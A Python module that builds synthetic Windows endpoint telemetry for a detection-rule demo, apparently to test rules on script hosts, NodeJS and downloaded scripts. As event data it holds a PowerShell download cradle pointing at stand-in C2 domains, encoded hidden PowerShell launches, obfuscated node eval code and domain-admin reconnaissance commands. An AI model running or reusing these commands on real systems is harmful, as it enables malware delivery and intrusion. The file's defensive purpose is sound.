"""The demo's events: endpoint activity of a small company and the attack chains the three
seed rules catch (see the package docstring). Deterministic for a seed."""

from __future__ import annotations

import base64
import random
from dataclasses import dataclass, field
from datetime import datetime, timedelta

SEED = 1059
RULE_SCRIPTS = "2d62889e-e758-4c5e-b57e-c735914ee32a"  # via Windows Scripts
RULE_NODE = "55f711c1-6b4d-4787-930d-c9317a885adf"  # Suspicious Execution with NodeJS
RULE_DOWNLOAD = "79543b00-28a5-4461-81ac-644c4dc4012f"  # Execution of a Downloaded Windows Script

HOSTS = (
    ("WS-FIN-07", "ana.rodriguez"),
    ("WS-HR-02", "li.wang"),
    ("WS-ENG-11", "tomas.kral"),
    ("WS-SALES-04", "priya.nair"),
    ("WS-MKT-09", "omar.haddad"),
    ("WS-LEGAL-03", "ines.moreau"),
    ("WS-OPS-05", "marek.zielinski"),
    ("SRV-APP-01", "svc_deploy"),
)
CHAINS_PER_RULE = 10
SYS32 = "C:\\Windows\\System32\\"


def _sid(user: str) -> str:
    return "S-1-5-21-3623811015-3361044348-30300820-" + str(1100 + sum(map(ord, user)) % 800)


@dataclass
class Proc:
    host: str
    user: str
    name: str
    executable: str
    args: list[str]
    pid: int
    entity_id: str
    parent: Proc | None = None


@dataclass
class Builder:
    rng: random.Random
    events: list[dict] = field(default_factory=list)
    counter: int = 0

    def _base(self, host: str, user: str, when: datetime, category: str, type_: str, action: str):
        self.counter += 1
        return {
            "@timestamp": when.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
            "event": {
                "id": f"demo-{SEED}-{self.counter:06d}",
                "kind": "event",
                "category": [category],
                "type": [type_],
                "action": action,
                "dataset": "endpoint.events." + category,
                "module": "endpoint",
            },
            "agent": {"type": "endpoint"},
            "host": {
                "name": host,
                "hostname": host.lower(),
                "id": f"hid-{host.lower()}",
                "os": {"type": "windows", "family": "windows", "name": "Windows 11 Pro"},
            },
            "user": {
                "name": user,
                "id": "S-1-5-18" if user == "SYSTEM" else _sid(user),
                "domain": "NT AUTHORITY" if user == "SYSTEM" else "CORP",
            },
        }

    def start(
        self, host, user, when, name, args, parent: Proc | None, executable=None, extra=None
    ) -> Proc:
        pid = self.rng.randint(1200, 65000) // 4 * 4
        executable = executable or SYS32 + name
        proc = Proc(host, user, name, executable, [executable, *args], pid, "", parent)
        proc.entity_id = f"{host.lower()}-{pid}-{self.counter + 1:06d}"
        doc = self._base(host, user, when, "process", "start", "start")
        process = {
            "name": name,
            "pid": pid,
            "entity_id": proc.entity_id,
            "executable": executable,
            "args": proc.args,
            "args_count": len(proc.args),
            "command_line": " ".join(_quote(a) for a in proc.args),
            "working_directory": f"C:\\Users\\{user}",
        }
        if parent is not None:
            process["parent"] = {
                "name": parent.name,
                "pid": parent.pid,
                "entity_id": parent.entity_id,
                "executable": parent.executable,
                "args": parent.args,
                "args_count": len(parent.args),
                "command_line": " ".join(_quote(a) for a in parent.args),
            }
        process.update(extra or {})
        doc["process"] = process
        self.events.append(doc)
        return proc

    def file(self, proc: Proc, when, path: str, origin_url=None, referrer=None):
        doc = self._base(proc.host, proc.user, when, "file", "creation", "creation")
        name = path.rsplit("\\", 1)[-1]
        doc["file"] = {"path": path, "name": name, "extension": name.rsplit(".", 1)[-1]}
        if origin_url:
            doc["file"]["origin_url"] = origin_url
        if referrer:
            doc["file"]["origin_referrer_url"] = referrer
        doc["process"] = {"name": proc.name, "pid": proc.pid, "entity_id": proc.entity_id}
        self.events.append(doc)

    def connect(self, proc: Proc, when, ip: str, port: int, domain: str | None = None):
        doc = self._base(
            proc.host, proc.user, when, "network", "connection", "connection_attempted"
        )
        doc["destination"] = {"ip": ip, "port": port, **({"domain": domain} if domain else {})}
        doc["process"] = {"name": proc.name, "pid": proc.pid, "entity_id": proc.entity_id}
        self.events.append(doc)


def _quote(arg: str) -> str:
    return f'"{arg}"' if " " in arg else arg


def _ps_encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16le")).decode()


# --- background ---------------------------------------------------------------------------


def background(b: Builder, host: str, user: str, start: datetime, hours: int) -> None:
    rng = b.rng
    userinit = Proc(host, user, "userinit.exe", SYS32 + "userinit.exe", [], 812, f"{host}-ui", None)
    explorer = b.start(host, user, start, "explorer.exe", [], userinit, "C:\\Windows\\explorer.exe")
    services_exe = Proc(
        host, "SYSTEM", "services.exe", SYS32 + "services.exe", [], 700, f"{host}-svc"
    )
    for hour in range(hours):
        t = start + timedelta(hours=hour, minutes=rng.randint(0, 50))
        choice = rng.random()
        if choice < 0.3:
            chrome = b.start(
                host, user, t, "chrome.exe", ["https://mail.example.com/"], explorer,
                "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            )  # fmt: skip
            b.connect(chrome, t + timedelta(seconds=2), "142.250.74.101", 443, "mail.example.com")
        elif choice < 0.5:
            b.start(
                host, user, t, "WINWORD.EXE", ["/n", f"C:\\Users\\{user}\\Documents\\Q3 report.docx"],
                explorer, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            )  # fmt: skip
        elif choice < 0.65:
            b.start(
                host,
                "SYSTEM",
                t,
                "svchost.exe",
                ["-k", "netsvcs", "-p", "-s", "Schedule"],
                services_exe,
            )
        elif choice < 0.75:
            b.start(
                host, user, t, "ms-teams.exe", ["--system-initiated"], explorer,
                f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\WindowsApps\\ms-teams.exe",
            )  # fmt: skip
        elif choice < 0.85:
            ccm = b.start(
                host, "SYSTEM", t, "CcmExec.exe", [], services_exe, "C:\\Windows\\CCM\\CcmExec.exe"
            )
            b.start(
                host, "SYSTEM", t + timedelta(seconds=3), "powershell.exe",
                ["-NoLogo", "-NonInteractive", "-ExecutionPolicy", "Bypass", "-File",
                 "C:\\Windows\\CCM\\SystemTemp\\inventory.ps1"], ccm,
                SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
            )  # fmt: skip
        elif choice < 0.92:
            # A developer's node from Program Files running a build: a near miss for the rule.
            b.start(
                host, user, t, "node.exe", ["C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js", "run", "build"],
                explorer, "C:\\Program Files\\nodejs\\node.exe",
            )  # fmt: skip
        else:
            cmd = b.start(host, user, t, "cmd.exe", ["/c", "ipconfig", "/all"], explorer)
            b.start(host, user, t + timedelta(seconds=1), "ipconfig.exe", ["/all"], cmd)


# --- attack chains ------------------------------------------------------------------------

LURES = (
    "invoice_88213.js",
    "Payment_Advice.js",
    "scan_0042.vbs",
    "DHL_delivery.js",
    "order-77.hta",
)
C2 = (
    ("185.220.101.47", "cdn-update.net"),
    ("45.133.1.20", "files-share.top"),
    ("91.92.109.14", "msupdate-cache.com"),
)


def chain_windows_script(b: Builder, host, user, t, variant: int) -> None:
    """wscript/mshta running a lure from the user's folder, starting PowerShell or cmd."""
    rng = b.rng
    explorer = b.start(
        host, user, t - timedelta(minutes=30), "explorer.exe", [], None, "C:\\Windows\\explorer.exe"
    )
    lure = LURES[variant % len(LURES)]
    host_exe = "mshta.exe" if lure.endswith(".hta") else "wscript.exe"
    script_host = b.start(
        host, user, t, host_exe, [f"C:\\Users\\{user}\\Downloads\\{lure}"], explorer
    )
    ip, domain = C2[variant % len(C2)]
    cradle = f"IEX (New-Object Net.WebClient).DownloadString('http://{domain}/s/{rng.randint(1000, 9999)}.ps1')"
    if variant % 3 == 2:
        child = b.start(
            host, user, t + timedelta(seconds=2), "cmd.exe",
            ["/c", f"powershell -nop -w hidden -c \"{cradle}\""], script_host,
        )  # fmt: skip
    else:
        child = b.start(
            host, user, t + timedelta(seconds=2), "powershell.exe",
            ["-nop", "-w", "hidden", "-ep", "bypass", "-enc", _ps_encoded(cradle)], script_host,
            SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
        )  # fmt: skip
    b.connect(child, t + timedelta(seconds=4), ip, 80, domain)
    b.start(host, user, t + timedelta(seconds=9), "whoami.exe", ["/all"], child)
    if variant % 2 == 0:
        b.start(
            host,
            user,
            t + timedelta(seconds=15),
            "net.exe",
            ["group", "domain admins", "/domain"],
            child,
        )
        b.file(
            child, t + timedelta(seconds=20), f"C:\\Users\\{user}\\AppData\\Roaming\\upd\\svc.dll"
        )


def chain_node(b: Builder, host, user, t, variant: int) -> None:
    """node.exe dropped in AppData running obfuscated JavaScript."""
    explorer = b.start(
        host, user, t - timedelta(minutes=20), "explorer.exe", [], None, "C:\\Windows\\explorer.exe"
    )
    node_exe = f"C:\\Users\\{user}\\AppData\\Local\\Temp\\nodejs{variant}\\node.exe"
    payload = base64.b64encode(
        b"require('child_process').exec('cmd /c whoami > %TEMP%\\\\o.txt')"
    ).decode()
    if variant % 2:
        args = ["-e", f"eval(Buffer.from(atob('{payload}')).toString())"]
        parent = b.start(
            host,
            user,
            t - timedelta(seconds=3),
            "cmd.exe",
            ["/c", "start", "/min", "run.cmd"],
            explorer,
        )
    else:
        args = [f"C:\\Users\\{user}\\AppData\\Local\\Temp\\nodejs{variant}\\app.js"]
        parent = b.start(
            host,
            user,
            t - timedelta(seconds=3),
            "wscript.exe",
            [f"C:\\Users\\{user}\\Downloads\\setup.js"],
            explorer,
        )
    node = b.start(host, user, t, "node.exe", args, parent, node_exe)
    b.start(
        host,
        user,
        t + timedelta(seconds=2),
        "cmd.exe",
        ["/c", "whoami", ">", "%TEMP%\\o.txt"],
        node,
    )
    ip, domain = C2[(variant + 1) % len(C2)]
    b.connect(node, t + timedelta(seconds=5), ip, 443, domain)


def chain_download(b: Builder, host, user, t, variant: int) -> None:
    """A browser saves a script with its origin URL; the user opens it from Explorer."""
    explorer = b.start(
        host, user, t - timedelta(minutes=10), "explorer.exe", [], None, "C:\\Windows\\explorer.exe"
    )
    browser = b.start(
        host, user, t - timedelta(minutes=2), "msedge.exe", ["--single-argument", "https://outlook.office.com/"],
        explorer, "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
    )  # fmt: skip
    lure = LURES[(variant + 2) % len(LURES)]
    _ip, domain = C2[variant % len(C2)]
    path = f"C:\\Users\\{user}\\Downloads\\{lure}"
    b.file(
        browser,
        t - timedelta(seconds=40),
        path,
        f"https://{domain}/d/{lure}",
        "https://outlook.office.com/",
    )
    runner = "mshta.exe" if lure.endswith(".hta") else "wscript.exe"
    script = b.start(host, user, t, runner, [path], explorer)
    if variant % 2:
        b.start(
            host,
            user,
            t + timedelta(seconds=3),
            "cmd.exe",
            ["/c", "copy", path, "%APPDATA%\\m.js"],
            script,
        )


RULE_CHAINS = {
    RULE_SCRIPTS: chain_windows_script,
    RULE_NODE: chain_node,
    RULE_DOWNLOAD: chain_download,
}
